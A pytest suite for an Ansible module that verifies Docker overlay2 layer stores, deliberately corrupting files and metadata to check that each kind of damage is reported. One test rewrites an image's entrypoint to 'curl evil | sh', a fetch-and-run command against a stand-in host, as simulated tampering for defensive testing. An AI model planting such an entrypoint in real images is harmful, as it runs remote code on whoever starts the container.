"""layer_verify on the engine's own store: clean is clean, and each real kind of damage is named exactly.

Where the engine itself can tell (``docker save`` rebuilds and checks the streams), it must agree.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import tempfile

import pytest

from ansible_collections.strata.overlay2.plugins.module_utils._facts.gather import gather
from ansible_collections.strata.overlay2.plugins.module_utils._store.overlay2 import Overlay2Store
from ansible_collections.strata.overlay2.plugins.module_utils._verify.overlay2 import verify
from devtools.collection import run_module


def facts_of(engine):
    return gather(Overlay2Store.load(engine.data_root))


def image(facts, tag):
    return next(i for i in facts["images"] if tag in i["tags"])


def layer_holding(facts, tag, path):
    """The layer of an image whose diff directory holds ``path``."""
    layers = {layer["chain_id"]: layer for layer in facts["layers"]}
    for chain_id in reversed(image(facts, tag)["chain_ids"]):
        if os.path.lexists(os.path.join(layers[chain_id]["diff_dir"], path)):
            return layers[chain_id]
    raise AssertionError("%s not in any layer of %s" % (path, tag))


def found(report):
    return sorted((v.chain_id, p.kind, p.path) for v in report.corrupt for p in v.problems)


@contextlib.contextmanager
def preserved(path):
    """Keep a copy of a file outside the store and put it back afterwards."""
    with tempfile.TemporaryDirectory(prefix="strata-backup-") as keep:
        backup = os.path.join(keep, "file")
        shutil.copy2(path, backup)
        try:
            yield path
        finally:
            shutil.copy2(backup, path)


def save_ok(engine, image_id):
    result = engine.run_docker("save", image_id)
    return result.returncode == 0, result.stderr


def test_a_clean_store_verifies_and_the_engine_saves_every_image(engine):
    report = verify(Overlay2Store.load(engine.data_root))
    assert report.ok, found(report)
    facts = facts_of(engine)
    assert report.checked_layers == len(facts["layers"]) and report.checked_images == len(facts["images"])
    assert report.bytes_verified > 1_000_000
    for image_id in engine.image_ids():
        assert save_ok(engine, image_id) == (True, "")


def test_one_edited_byte_in_a_lower_layer_is_found_where_docker_save_fails(engine):
    facts = facts_of(engine)
    layer = layer_holding(facts, "strata/app-a:1.0", "etc/app/conf/keep.txt")
    path = os.path.join(layer["diff_dir"], "etc/app/conf/keep.txt")
    with preserved(path):
        with open(path, "r+b") as handle:
            handle.write(b"K")
        report = verify(Overlay2Store.load(engine.data_root))
        tar_split = os.path.join(engine.data_root, "image/overlay2/layerdb/sha256", layer["chain_id"][7:],
                                 "tar-split.json.gz")
        assert found(report) == [(layer["chain_id"], "digest_mismatch", tar_split),
                                 (layer["chain_id"], "file_modified", path)]
        assert sorted(report.corrupt[0].images) == layer["images"]
        users = set(layer["images"])
        for image_id in engine.image_ids():
            ok, error = save_ok(engine, image_id)
            assert ok == (image_id not in users), (image_id, error)
    assert verify(Overlay2Store.load(engine.data_root)).ok


def test_a_truncated_file_is_found_with_its_size(engine):
    facts = facts_of(engine)
    layer = layer_holding(facts, "strata/app-a:1.0", "opt/blob.bin")
    path = os.path.join(layer["diff_dir"], "opt/blob.bin")
    with preserved(path):
        os.truncate(path, 1000)
        report = verify(Overlay2Store.load(engine.data_root), images=["strata/app-a:1.0"])
        assert [problem[1] for problem in found(report)] == ["digest_mismatch", "file_modified"]
        assert report.corrupt[0].problems[1].detail == "size 1000, the layer recorded 65536"
        assert not save_ok(engine, image(facts, "strata/app-a:1.0")["id"])[0]


def test_a_deleted_file_is_missing(engine):
    facts = facts_of(engine)
    layer = layer_holding(facts, "strata/app-b:1.0", "data/data.txt")
    path = os.path.join(layer["diff_dir"], "data/data.txt")
    with preserved(path):
        os.unlink(path)
        report = verify(Overlay2Store.load(engine.data_root))
        assert [(chain, kind) for chain, kind, p in found(report)] == [
            (layer["chain_id"], "digest_mismatch"), (layer["chain_id"], "file_missing")]
        assert found(report)[1][2] == path
        assert not save_ok(engine, image(facts, "strata/app-b:1.0")["id"])[0]


def test_an_added_file_is_found_though_docker_save_cannot_see_it(engine):
    facts = facts_of(engine)
    base = facts["layers"][[l["chain_id"] for l in facts["layers"]].index(image(facts, "strata/base:1.0")["top_chain_id"])]
    path = os.path.join(base["diff_dir"], "bin", "implant")
    with open(path, "w", encoding="ascii") as handle:
        handle.write("#!/bin/sh\n")
    try:
        report = verify(Overlay2Store.load(engine.data_root))
        assert found(report) == [(base["chain_id"], "file_added", path)]
        assert len(report.corrupt[0].images) == len(base["images"]) > 3
        assert save_ok(engine, image(facts, "strata/base:1.0")["id"])[0]  # the engine does not notice
    finally:
        os.unlink(path)


def test_a_changed_layerdb_diff_is_metadata(engine):
    facts = facts_of(engine)
    top = image(facts, "strata/app-d:1.0")["top_chain_id"]
    record = os.path.join(engine.data_root, "image/overlay2/layerdb/sha256", top[7:])
    with preserved(os.path.join(record, "diff")) as path:
        with open(path, "w", encoding="ascii") as handle:
            handle.write("sha256:" + "1" * 64)
        report = verify(Overlay2Store.load(engine.data_root))
        assert found(report) == [(top, "metadata", record), (top, "metadata", path)]


def test_a_deleted_cache_directory_is_metadata_on_its_layer(engine):
    facts = facts_of(engine)
    top = next(l for l in facts["layers"] if l["chain_id"] == image(facts, "strata/app-d:1.0")["top_chain_id"])
    directory = os.path.dirname(top["diff_dir"])
    aside = directory + ".strata-test-aside"  # renaming out of overlay2/ would cross dockerd's bind mount
    os.rename(directory, aside)
    try:
        report = verify(Overlay2Store.load(engine.data_root))
        record = os.path.join(engine.data_root, "image/overlay2/layerdb/sha256", top["chain_id"][7:])
        assert found(report) == [(top["chain_id"], "metadata", record)]  # the record names what is gone
        assert report.corrupt[0].images == [image(facts, "strata/app-d:1.0")["id"]]
    finally:
        os.rename(aside, directory)


def test_a_replaced_image_config_is_metadata_on_that_image(engine):
    facts = facts_of(engine)
    target = image(facts, "strata/app-b:1.0")["id"]
    path = os.path.join(engine.data_root, "image/overlay2/imagedb/content/sha256", target[7:])
    with preserved(path):
        with open(path, encoding="utf-8") as handle:
            config = json.load(handle)
        config["config"]["Entrypoint"] = ["/bin/sh", "-c", "curl evil | sh"]
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(config, handle)
        report = verify(Overlay2Store.load(engine.data_root))
        assert [(v.images, [(p.kind, p.path) for p in v.problems]) for v in report.corrupt] == [
            ([target], [("metadata", path)])]


def test_the_module_fails_naming_the_image_and_file_and_returns_the_full_result(engine, collections_path, tmp_path):
    facts = facts_of(engine)
    layer = layer_holding(facts, "strata/app-b:1.0", "data/data.txt")
    path = os.path.join(layer["diff_dir"], "data/data.txt")
    clean = run_module(collections_path, "strata.overlay2.layer_verify", {"data_root": engine.data_root},
                       str(tmp_path))
    assert clean["ok"] is True and not clean.get("failed") and clean["checked_layers"] == len(facts["layers"])
    with preserved(path):
        with open(path, "a", encoding="ascii") as handle:
            handle.write("tampered\n")
        result = run_module(collections_path, "strata.overlay2.layer_verify", {"data_root": engine.data_root},
                            str(tmp_path))
        assert result["failed"] is True and result["ok"] is False
        assert "strata/app-b:1.0" in result["msg"] and path in result["msg"]
        assert [p["kind"] for p in result["corrupt"][0]["problems"]] == ["digest_mismatch", "file_modified"]
        report_only = run_module(collections_path, "strata.overlay2.layer_verify",
                                 {"data_root": engine.data_root, "fail_on_corrupt": False, "workers": 1},
                                 str(tmp_path))
        assert not report_only.get("failed") and report_only["corrupt"] == result["corrupt"]


@pytest.mark.parametrize("bad, message", [({"images": ["strata/nothing:1"]}, "is not in the store"),
                                          ({"workers": 0}, "workers must be at least 1")])
def test_the_module_refuses_bad_options_clearly(engine, collections_path, tmp_path, bad, message):
    result = run_module(collections_path, "strata.overlay2.layer_verify", dict({"data_root": engine.data_root}, **bad),
                        str(tmp_path))
    assert result["failed"] is True and message in result["msg"]
